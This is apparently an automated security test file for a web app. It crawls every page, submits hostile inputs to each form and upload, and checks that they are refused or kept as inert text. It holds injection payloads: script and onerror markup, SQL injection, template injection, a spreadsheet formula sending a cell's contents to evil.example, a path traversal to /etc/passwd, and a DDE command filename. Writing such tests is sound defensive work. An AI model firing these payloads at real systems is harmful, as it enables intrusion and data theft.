// Bad input: every form of every page, and every file that one takes, is fed what no one should send. What comes back is a refusal that says
// what to do, or the text is kept as plain text; nothing of it runs, and none of it forges the log.
import assert from "node:assert/strict";
import { browser as launch, check, demo, empty, verdict, window } from "./stage.mjs";

const PWNED = "globalThis.__pwned=1";
const RUBBISH = {
  "50 KB": "N".repeat(50_000),
  "control characters": "a\u0000b\u0007\u001b[31mc\r\nSet-Cookie: d=1",
  "bidirectional overrides": "\u202etxt.exe\u2066\u200f",
  markup: `"><script>${PWNED}</script><img src=x onerror="${PWNED}">`,
  template: "{{{lookup . 'secret'}}} ${7*7} {{7*7}} %s %n",
  SQL: "'; drop table people; -- \" or 1=1",
  formula: "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")",
  "no words": "   ",
  "a number beyond all numbers": "999999999999999999999999999999",
  "a path": "../../../../etc/passwd\\..\\x",
  "combining marks": "Z" + "\u0351".repeat(400),
};
// Bytes of a form or a file that are no UTF-8.
const ENCODINGS = {
  "broken UTF-8": Buffer.from([0x6e, 0xff, 0xfe, 0xc3, 0x28, 0x0a]),
  "UTF-16": Buffer.from("\ufeffname;email\nAna;ana@example.test\n", "utf16le"),
  "Windows-1252": Buffer.from("name,email\nJos\xe9,jose@example.test\n", "latin1"),
  zeros: Buffer.alloc(2_000),
};
const WITHOUT = /^\/(sign-out|assets|health)/;

const seatwise = await demo(process.argv[2], ["Ana", "Ben"]);
const fresh = await empty(process.argv[2]);
const browser = await launch();

/** Signs somebody in. Their requests are the browser's: cookies, and the origin that a form of ours would have. */
async function person(home, link) {
  const eyes = await window(browser, home);
  await eyes.page.goto(link);
  await eyes.page.getByRole("button", { name: "Sign in" }).click();
  await eyes.page.waitForURL(`${home}/`);
  return { ...eyes, home, headers: { origin: home, "sec-fetch-site": "same-origin" } };
}

const pattern = (path) => path.replace(/[A-Z]{3}\d{7}|\d+|[0-9a-z]{20,}/g, "N").replace(/=[^&]*/g, "=");

/** Every page that links lead to, two of a kind at most, and the forms that stand on them. */
async function survey(who) {
  const waiting = ["/"], seen = new Map(), pages = [], forms = new Map();
  while (waiting.length > 0) {
    const path = waiting.shift();
    const kind = pattern(path);
    if ((seen.get(kind) ?? 0) >= 2 || pages.includes(path) || WITHOUT.test(path)) continue;
    seen.set(kind, (seen.get(kind) ?? 0) + 1);
    const answer = await who.context.request.get(who.home + path, { maxRedirects: 3 });
    if (!/text\/html/.test(answer.headers()["content-type"] ?? "")) continue;
    assert.ok(answer.status() < 500, `${path}: ${answer.status()}`);
    pages.push(path);
    const found = await who.page.evaluate((html) => {
      const parsed = new DOMParser().parseFromString(html, "text/html");
      const links = [...parsed.querySelectorAll("a[href^='/']")].map((a) => a.getAttribute("href"));
      const forms = [...parsed.querySelectorAll("form[method=post]")].map((form) => ({
        action: form.getAttribute("action"),
        is_file: form.enctype === "multipart/form-data",
        fields: [...form.querySelectorAll("[name]")].map((field) => ({
          name: field.name, kind: field.tagName === "INPUT" ? field.type : field.tagName.toLowerCase(), value: field.value, is_set: field.checked,
        })),
      }));
      // A form that only asks, as it stands, is a link too.
      for (const form of parsed.querySelectorAll("form[method=get][action^='/']")) links.push(`${form.getAttribute("action")}?${new URLSearchParams(new FormData(form))}`);
      return { links, forms };
    }, await answer.text());
    waiting.push(...found.links.map((href) => href.split("#")[0]));
    for (const form of found.forms) {
      const action = form.action || path;
      if (!WITHOUT.test(action)) forms.set(`${pattern(action)} ${form.fields.map((field) => field.name)}`, { ...form, action, page: path });
    }
  }
  return { pages, forms: [...forms.values()] };
}

const TYPED = /^(text|textarea|email|url|password|search|number|date|tel|datetime-local|time|month)$/;
const typed = (form) => form.fields.filter((field) => TYPED.test(field.kind));

function filled(form, text) {
  const body = new URLSearchParams();
  for (const field of form.fields) {
    if (/^(checkbox|radio)$/.test(field.kind) && !field.is_set) continue;
    if (field.kind !== "file") body.append(field.name, TYPED.test(field.kind) ? text : (field.value ?? ""));
  }
  return body;
}

const send = (who, form, data, kind = "application/x-www-form-urlencoded") =>
  who.context.request.post(who.home + form.action, { data, maxRedirects: 0, headers: { ...who.headers, "content-type": kind } });

// What a careful person would type, so that one wrong field is judged by itself.
const PLAUSIBLE = { number: "1", date: "2027-01-31", email: "a@example.test", url: "https://hooks.example.test/", "datetime-local": "2027-01-31T10:00" };

/** The form as a careful person fills it, with one field gone wrong. */
function spoilt(form, name, text) {
  const body = filled(form, "1");
  for (const field of typed(form)) body.set(field.name, field.name === name ? text : PLAUSIBLE[field.kind] ?? (field.value || "1"));
  return body;
}

/** What is wrong with an answer to rubbish; nothing where it is a redirect, or a refusal that says what to do. */
async function fault(answer) {
  if (answer.status() < 400) return undefined;
  const said = await answer.text();
  if (answer.status() >= 500) return `${answer.status()}: ${said.slice(0, 200)}`;
  if (answer.status() === 422 && /class="wrong"|What to do/.test(said)) return undefined;
  return /What to do/.test(said) ? undefined : `${answer.status()} says nothing to do: ${said.replace(/<[^>]*>|\s+/g, " ").slice(0, 300)}`;
}

const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

async function feed(who) {
  const found = [];
  const { forms } = await survey(who);
  let sent = 0, kept = 0, files = 0;
  for (const form of forms) {
    if (typed(form).length > 0 && !form.is_file) {
      for (const [kind, text] of Object.entries(RUBBISH)) {
        const answer = await send(who, form, filled(form, text).toString());
        sent += 1;
        if (answer.status() < 400) {
          kept += 1;
        }
        const wrong = await fault(answer);
        if (wrong) found.push(`${form.action} with ${kind}: ${wrong}`);
      }
      for (const field of typed(form)) {
        const answer = await send(who, form, spoilt(form, field.name, RUBBISH["50 KB"]).toString());
        sent += 1;
        if (answer.status() < 400) found.push(`${form.action} keeps 50 KB in ${field.name}`);
        const wrong = await fault(answer);
        if (wrong) found.push(`${form.action} with 50 KB in ${field.name}: ${wrong}`);
      }
      for (const [kind, bytes] of Object.entries(ENCODINGS)) {
        const quoted = [...bytes].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
        const csrf = form.fields.find((field) => field.name === "csrf")?.value ?? "";
        const body = [`csrf=${encodeURIComponent(csrf)}`, ...typed(form).map((field) => `${encodeURIComponent(field.name)}=${quoted}`)].join("&");
        const wrong = await fault(await send(who, form, body));
        if (wrong) found.push(`${form.action} in ${kind}: ${wrong}`);
      }
    }
    for (const field of form.fields.filter((one) => one.kind === "file")) {
      files += 1;
      for (const [kind, buffer] of Object.entries(ENCODINGS)) {
        const multipart = Object.fromEntries(form.fields.filter((one) => one.kind !== "file" && !TYPED.test(one.kind)).map((one) => [one.name, one.value ?? ""]));
        const answer = await who.context.request.post(who.home + form.action, {
          multipart: { ...multipart, [field.name]: { name: "=cmd|' /C calc'!A1.csv", mimeType: "text/csv", buffer } }, maxRedirects: 0, headers: who.headers,
        });
        const wrong = await fault(answer);
        if (wrong) found.push(`${form.action} takes a file in ${kind}: ${wrong}`);
      }
    }
  }
  return { found, forms: forms.length, sent, kept, files };
}

/** Opens every page as it now is. Nothing that was typed is a part of it. */
async function look(who) {
  const found = [];
  for (const path of (await survey(who)).pages) {
    await who.page.goto(who.home + path);
    const live = await who.page.evaluate(() => ({
      ran: globalThis.__pwned, handlers: document.querySelectorAll("[onerror],[onload],img[src=x]").length, scripts: document.querySelectorAll("script:not([src])").length,
    }));
    if (live.ran || live.handlers || live.scripts) found.push(`${path}: ${JSON.stringify(live)}`);
  }
  return [...found, ...who.faults.filter((fault) => !/status of (4\d\d|503)/.test(fault))];
}

const administrator = await person(fresh.origin, fresh.link);
await administrator.page.goto(`${fresh.origin}/connect`);
await administrator.page.getByRole("button", { name: /^Connect / }).first().click();
const people = { administrator, ana: await person(seatwise.origin, seatwise.links.Ana), ben: await person(seatwise.origin, seatwise.links.Ben) };

for (const [name, who] of Object.entries(people)) {
  await check(`what_no_one_should_type_is_refused_with_a_remedy_or_kept_as_text_in_every_form_of_${name}`, async () => {
    const { found, forms, sent, kept } = await feed(who);
    console.log(`# ${name}: ${forms} forms, ${sent} answers, ${kept} kept`);
    assert.deepEqual(found, []);
    assert.ok(sent >= 30 && kept > 0, `${sent} sent, ${kept} kept`);
  });
}
for (const [name, who] of Object.entries(people)) {
  await check(`nothing_that_was_typed_runs_on_any_page_of_${name}`, async () => assert.deepEqual(await look(who), []));
}
await check("nothing_that_was_typed_forges_a_line_of_the_log", () => {
  for (const host of [seatwise, fresh]) {
    const forged = host.log().split("\n").filter((line) => CONTROLS.test(line) || line.length > 20_000);
    assert.deepEqual(forged.map((line) => JSON.stringify(line.slice(0, 300))), []);
  }
});

await browser.close();
await seatwise.stop();
await fresh.stop();
process.exitCode = verdict();
